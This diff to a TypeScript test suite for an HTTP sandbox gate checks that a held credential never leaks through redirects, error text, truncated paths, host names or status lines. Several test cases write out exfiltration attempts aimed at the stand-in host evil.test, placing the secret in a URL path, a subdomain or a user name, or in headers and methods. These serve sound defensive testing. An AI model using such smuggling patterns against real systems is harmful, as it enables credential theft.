@@ -12,6 +12,8 @@ import { formsIn, longestBeginning, writtenForms } from '../harness/written-secr
 /** Awkward on purpose: every escape has something to do. */
 const SECRET = `sk-Live/"4f9a+1c7b&<E2>\\n%7e'=z_Q`
 const FORMS = writtenForms(SECRET)
+/** Such as most credentials are: no escape has anything to do, so it passes wherever a name or a path does. */
+const PLAIN = 'sk-Live-4f9a1c7be2d84c50-zQ'
 const MARK = '[redacted:company]'
 
 const textOf = (value: string | string[] | undefined): string =>
@@ -40,9 +42,12 @@ const echo: Answer = ({ url, headers }, response) => {
         ['etag', `"${forms['hex in upper case']}"`],
       ])
       return void response.end('see above')
+    case '/status':
+      return void response.writeHead(200, 'a'.repeat(Number(searchParams.get('pad'))) + held).end()
     case '/reversed':
       return void response.end([...held].toReversed().join(''))
     default:
+      if (pathname.startsWith('/body/')) return void response.end('ok')
       return void response
         .writeHead(302, {
           location: (searchParams.get('to') ?? '').replace('SECRET', encodeURIComponent(held)),
@@ -74,7 +79,12 @@ const known = (entry: object = {}, rest: object = {}): object =>
     { secrets: { company: { from: 'env:COMPANY', bearer: {} } }, ...rest },
   )
 
-const run = async (code: string, policy: object = known(), input: unknown = site.origin): Promise<Told> => {
+const run = async (
+  code: string,
+  policy: object = known(),
+  input: unknown = site.origin,
+  secret = SECRET,
+): Promise<Told> => {
   const folder = await mkdtemp(join(tmpdir(), 'tollgate-h30-'))
   try {
     const events: RunEvent[] = []
@@ -84,7 +94,7 @@ const run = async (code: string, policy: object = known(), input: unknown = site
     const gate = await openGate({
       state,
       auditLog,
-      powers: { env: { COMPANY: SECRET } },
+      powers: { env: { COMPANY: secret } },
       onEvent: (event) => events.push(event),
     })
     const approve = (ticket: Ticket): boolean => tickets.push(ticket) > 0
@@ -146,27 +156,51 @@ describe('a server that hands the credential back', () => {
 })
 
 describe('a redirect with the credential in its place', () => {
+  const follow = (to: string): string => `
+    const url = input + '/?to=' + encodeURIComponent('${to}')
+    try { await http.get(url) } catch ({ code, message, hint }) { console.log(code, message, hint) }
+    await http.get(url)`
+
   it.each([
     ['a path that is not allowed', '/closed/SECRET', { paths: ['/'] }],
     ['a query that is not allowed', '/?SECRET=1', { query: ['to'] }],
     ['another host', 'http://evil.test/SECRET', {}],
     ['a name of its own', 'http://SECRET.evil.test/', {}],
+    ['a name like a long number', `http://${'a'.repeat(60)}.SECRET.evil.test/`, {}],
+    ['a user name', 'http://SECRET@evil.test/', {}],
   ])('to %s tells it in no error, hint or change', async (_, to, entry) => {
-    const code = `try { await http.get(input + '/?to=' + encodeURIComponent('${to}')) } catch ({ code, message, hint }) { console.log(code, message, hint) }
-      await http.get(input + '/?to=' + encodeURIComponent('${to}'))`
-    const { result, everything } = await run(code, known(entry))
+    const { result, everything } = await run(follow(to), known(entry), site.origin, PLAIN)
     expect(result.error).toMatchObject({ code: 'DENIED_REDIRECT', gate: 'perform' })
     expect(result.logs[0]?.text).toMatch(/^DENIED_REDIRECT /)
-    expect(formsIn(everything, SECRET)).toEqual([])
+    expect(formsIn(everything, PLAIN)).toEqual([])
   })
 
-  it('tells no part of it where a text is cut, wherever that is', async () => {
+  /** Of all that was said, only what a server could put there: the policy and the code of the test do not count. */
+  const expectNoPart = ({ everything }: Told): void => {
+    expect(longestBeginning(everything, PLAIN).length).toBeLessThan(6)
+  }
+
+  it('tells no part of it where a path is cut, wherever that is', async () => {
     const code = `for (let pad = 60; pad < 130; pad += 3)
         await http.get(input + '/?to=/closed/' + 'a'.repeat(pad) + 'SECRET').catch(({ message }) => console.log(message))
-      await http.get(input + '/?to=/closed/' + 'a'.repeat(90) + 'SECRET')`
-    const { result, everything } = await run(code, known({ paths: ['/'] }))
-    expect(result.logs).toHaveLength(24)
-    expect(longestBeginning(everything, SECRET).length).toBeLessThan(6)
+      await http.get(input + '/?to=/closed/' + 'a'.repeat(96) + 'SECRET')`
+    const told = await run(code, known({ paths: ['/'] }), site.origin, PLAIN)
+    expect(told.result.logs).toHaveLength(24)
+    expectNoPart(told)
+  })
+
+  it('tells no part of it where a query, a name or the place of the answer is cut', async () => {
+    const code = `for (let pad = 60; pad < 130; pad += 3) {
+        await http.get(input + '/?to=/?' + 'a'.repeat(pad) + 'SECRET').catch(({ message }) => console.log(message))
+        await http.get(input + '/?to=http://' + 'a'.repeat(60) + '.' + 'b'.repeat(pad - 55) + '.SECRET.test/').catch(() => 0)
+      }
+      for (let pad = 440; pad < 512; pad += 3) await http.get(input + '/?to=/body/' + 'a'.repeat(pad) + 'SECRET')`
+    expectNoPart(await run(code, known({ query: ['to'] }), site.origin, PLAIN))
+  })
+
+  it('tells no part of it where a status text is cut', async () => {
+    const code = `for (let pad = 90; pad < 140; pad += 3) console.log((await http.get(input + '/status?pad=' + pad)).statusText)`
+    expectNoPart(await run(code, known(), site.origin, PLAIN))
   })
 })
 
@@ -188,7 +222,7 @@ describe('a guest that undoes what the server did to the credential', () => {
       'await http.get("http://evil.test/" + encodeURIComponent(held)).catch(({ message }) => console.log(message)); await http.get("http://" + held.replace(/[^a-z0-9-]/gi, "") + ".test/?" + held)',
     ],
     ['in a refused header', 'await http.get(input, { headers: { ["x" + held]: held } })'],
-    ['in a refused method', 'await http.request({ url: input, method: held.slice(0, 32) })'],
+    ['in a refused method', 'await http.request({ url: input, method: held })'],
     ['in arguments that do not fit', 'await http.request({ url: input, redirect: held })'],
     ['in an option that nobody knows', 'await http.request({ url: input, [held]: held })'],
     ['in what it asks a human', 'await http.post(input + "/body?" + encodeURIComponent(held), held)'],
